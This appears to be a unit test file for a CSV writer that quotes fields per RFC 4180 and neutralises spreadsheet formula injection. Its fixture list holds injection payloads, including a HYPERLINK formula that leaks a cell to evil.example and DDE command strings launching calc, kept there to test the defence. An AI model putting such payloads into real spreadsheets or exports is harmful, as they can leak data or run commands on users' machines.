import { csvLines, defused, undefused } from "./csv";

it("writes lines as RFC 4180 wants them", () => {
  const rows = [
    ["id", "text", null],
    ["1", 'with "quotes"', "a, b"],
    ["2", "two\nlines", "two\r\nlines"],
    ["3", " kept as it is ", "ünïcode 漢字"],
    ["4", "a;b", "a\tb"],
  ];
  expect(csvLines(rows)).toBe(
    [
      "id,text,",
      '1,"with ""quotes""","a, b"',
      '2,"two\nlines","two\r\nlines"',
      "3, kept as it is ,ünïcode 漢字",
      '4,"a;b","a\tb"',
      "",
    ].join("\r\n"),
  );
});

it("writes nothing for no rows", () => expect(csvLines([])).toBe(""));

const attacks = [
  "=1+1",
  '=HYPERLINK("http://evil.example?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  "+1",
  "-1+1",
  "-1|calc",
  "--1",
  "-1\n",
  "@SUM(A1:A9)",
  "\t=1",
  "\r=1",
  "\n=1",
  "\tplain text after a tab",
  "\rplain text after a return",
  "\u0000=1",
  " =1",
  "\u00a0=1",
  "\ufeff=1",
  "\u200b=1",
  "\u202e=1",
  '"=1',
  '"\t=1"',
  "'=1",
  "“=1”",
  "＝1",
  "＋1",
  "－1",
  "＠1",
  "−1",
  "|calc",
  "%0A=1",
];

it.each(attacks)("defuses %j, and reads it back", (text) => {
  expect(defused(text)).toBe(`'${text}`);
  expect(undefused(defused(text))).toBe(text);
  expect(csvLines([[text]])).toMatch(/^(?:'|"')/);
});

it.each([
  "",
  "Ann",
  "DE89 3704 0044 0532 0130 00",
  "12.34",
  "-12.34",
  "-1000",
  "O'Neil",
  "'quoted'",
  "a=b",
  "a@b.example",
  "2026-01-01",
])("leaves %j as it is", (text) => {
  expect(defused(text)).toBe(text);
  expect(undefused(text)).toBe(text);
});
